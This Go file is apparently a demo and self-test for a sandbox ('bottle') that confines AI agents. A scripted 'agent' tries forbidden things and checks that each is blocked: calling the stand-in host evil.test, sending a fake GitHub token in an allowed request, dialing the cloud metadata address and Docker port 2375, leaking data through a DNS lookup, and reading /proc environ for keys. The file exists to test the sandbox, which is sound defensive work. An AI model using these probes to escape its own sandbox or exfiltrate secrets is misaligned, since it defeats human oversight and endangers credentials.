// Command agent plays an agent in the demo: it does its work, then tries all that
// it must not be able to do, and says what happened. It exits with 1 when anything
// was different from what bottle promises.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"
)

func main() {
	if len(os.Args) > 1 && os.Args[1] == "-wait" {
		time.Sleep(time.Hour) // for a look at a launch that runs
		return
	}
	if len(os.Args) > 1 && os.Args[1] == "-quit" {
		return
	}
	justWork := len(os.Args) > 1 && os.Args[1] == "-work"
	failed := false
	check := func(ok bool, what, how string) {
		mark := "ok  "
		if !ok {
			mark, failed = "FAIL", true
		}
		fmt.Printf("  %s  %-46s %s\n", mark, what, how)
	}
	fmt.Println("I am the agent. My work:")
	status, body := call("GET", os.Getenv("ACME_URL")+"/whoami", "")
	check(status == 200, "ask the private API, without a key", body)
	if justWork { // what a benchmark waits for
		if failed {
			os.Exit(1)
		}
		return
	}

	fmt.Println("What I hold:")
	check(noKey(), "no key in my environment or files", "none found")

	fmt.Println("What I tried besides:")
	status, body = call("POST", "https://acme-notes/notes", "all is well")
	check(status == 200, "leave a note where the script allows it", body)
	_, body = call("GET", "https://acme-api/whoami", "")
	check(strings.Contains(body, notAllowed), "the API itself, with a key of my own", body)
	_, body = call("GET", "https://evil.test/", "")
	check(strings.Contains(body, notAllowed), "a host that the script does not name", body)
	status, body = call("POST", "https://acme-notes/notes", "the token is "+leak())
	check(status == 403, "a secret in the body of an allowed request", body)
	how, closed := direct()
	check(closed, "the host machine, its neighbours, the internet", how)
	how, refused := lookup()
	check(refused, "a DNS lookup (data leaves in names, too)", how)
	if failed {
		os.Exit(1)
	}
}

// notAllowed is what the gate says of a host that the script does not name.
const notAllowed = "is not an allowed host"

// client goes through whatever proxy the environment names. Of a tunnel that the
// proxy refuses it tells the reason, which Go's own leaves unread.
func client() *http.Client {
	transport := &http.Transport{Proxy: http.ProxyFromEnvironment}
	transport.OnProxyConnectResponse = func(_ context.Context, _ *url.URL, _ *http.Request, res *http.Response) error {
		if res.StatusCode == http.StatusOK {
			return nil
		}
		return errors.New(said(res))
	}
	return &http.Client{Transport: transport}
}

// call makes a request and returns what came of it.
func call(method, where, body string) (status int, what string) {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, method, where, strings.NewReader(body)) //nolint:gosec // the launch says where its API is
	if err != nil {
		return 0, err.Error()
	}
	req.Header.Set("Authorization", "Bearer a-key-of-my-own")
	resp, err := client().Do(req) //nolint:gosec // as above
	if failed := (*url.Error)(nil); errors.As(err, &failed) {
		return 0, failed.Err.Error()
	} else if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	return resp.StatusCode, said(resp)
}

// said is the status of an answer and what it says: the reason of a refusal, else
// its body.
func said(resp *http.Response) string {
	b, err := io.ReadAll(io.LimitReader(resp.Body, 4096))
	if err != nil {
		return err.Error()
	}
	var refusal struct{ Reason string }
	if json.Unmarshal(b, &refusal) == nil && refusal.Reason != "" {
		return fmt.Sprintf("%d: %s", resp.StatusCode, refusal.Reason)
	}
	return fmt.Sprintf("%d: %s", resp.StatusCode, bytes.TrimSpace(b))
}

// noKey looks for the demo's key wherever an agent would.
func noKey() bool {
	const mark = "acme-" + "key-"
	for _, path := range []string{"/proc/self/environ", "/proc/1/environ", "/run/bottle/ca.pem", "/etc/hosts", "/etc/resolv.conf"} {
		b, err := os.ReadFile(path)
		if err == nil && bytes.Contains(b, []byte(mark)) {
			return false
		}
	}
	return !strings.Contains(strings.Join(os.Environ(), "\n"), mark)
}

// leak makes what looks like a token of GitHub's, here and not before, so that no
// file holds one.
func leak() string { return "ghp_" + "x9Kq2LmZ7vTbR4nW8sYc1HdJ6fGp3QaXeU5B"[:36] }

// direct tries every way round the gate and reports whether all are closed. Where
// HOST_LISTENER names a listener on the host machine, whoever launched has made
// sure that it answers.
func direct() (how string, closed bool) {
	targets := []string{"1.1.1.1:443", "169.254.169.254:80", "172.17.0.1:22", "10.0.0.1:80"}
	port := "22"
	if list := os.Getenv("HOST_LISTENER"); list != "" {
		targets = append(targets, strings.Split(list, ",")...)
		_, port, _ = net.SplitHostPort(targets[len(targets)-1])
	}
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return err.Error(), false
	}
	for _, a := range addrs {
		// The first address of the own network is where a host would be.
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			first := n.IP.Mask(n.Mask).To4()
			first[3]++
			targets = append(targets, net.JoinHostPort(first.String(), port), first.String()+":2375")
		}
	}
	for _, t := range targets {
		d := net.Dialer{Timeout: 300 * time.Millisecond}
		if c, err := d.DialContext(context.Background(), "tcp", t); err == nil {
			_ = c.Close()
			return t + " answered", false
		}
	}
	return fmt.Sprintf("no connection to any of %d addresses", len(targets)), true
}

func lookup() (how string, refused bool) {
	start := time.Now()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	_, err := net.DefaultResolver.LookupHost(ctx, "secret.evil.test")
	if err == nil {
		return "it was answered", false
	}
	return fmt.Sprintf("refused after %d ms", time.Since(start).Milliseconds()), time.Since(start) < 5*time.Second
}
